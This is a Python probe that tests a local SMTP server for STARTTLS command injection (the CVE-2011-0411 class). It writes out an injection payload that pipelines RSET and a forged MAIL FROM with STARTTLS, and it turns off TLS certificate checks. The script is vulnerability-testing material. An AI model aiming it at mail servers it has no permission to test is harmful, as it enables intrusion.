#!/usr/bin/env python3
"""STARTTLS command injection probe (CVE-2011-0411 class).

Usage: starttls_injection.py PORT
Sends "EHLO x, STARTTLS, RSET, MAIL FROM:<evil@x.test>" in one write, reads the plaintext
replies up to the 220 for STARTTLS, notes any plaintext byte after it, does the TLS handshake,
then over TLS sends MAIL FROM (no EHLO first), EHLO and NOOP. A server that executed the
injected commands would answer RSET and MAIL over TLS, and those answers would show up here
in place of the replies to our own commands. Prints the findings as one JSON object.
"""
import json
import socket
import ssl
import sys


class Reader:
    def __init__(self, sock):
        self.sock = sock
        self.buffer = b""

    def reply(self):
        lines = []
        while True:
            while b"\r\n" not in self.buffer:
                chunk = self.sock.recv(4096)
                if not chunk:
                    raise ConnectionError("closed after %r" % self.buffer)
                self.buffer += chunk
            line, self.buffer = self.buffer.split(b"\r\n", 1)
            lines.append(line.decode("utf-8", "replace"))
            if len(line) < 4 or line[3:4] != b"-":
                return lines


def main():
    port = int(sys.argv[1])
    result = {}
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    plain = Reader(sock)
    result["greeting"] = plain.reply()
    sock.sendall(b"EHLO x\r\nSTARTTLS\r\nRSET\r\nMAIL FROM:<evil@x.test>\r\n")
    result["ehlo"] = plain.reply()
    result["starttls"] = plain.reply()
    result["plaintext_after_220"] = plain.buffer.decode("latin-1")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        tls = context.wrap_socket(sock, server_hostname="localhost")
    except Exception as error:
        result["handshake_error"] = "%s: %s" % (type(error).__name__, error)
        json.dump(result, sys.stdout)
        return
    result["tls_version"] = tls.version()
    secure = Reader(tls)
    for name, line in (("mail", b"MAIL FROM:<a@x.test>"), ("ehlo_after", b"EHLO y"), ("noop", b"NOOP")):
        tls.sendall(line + b"\r\n")
        result[name] = secure.reply()
    tls.sendall(b"QUIT\r\n")
    result["quit"] = secure.reply()
    json.dump(result, sys.stdout)


if __name__ == "__main__":
    main()
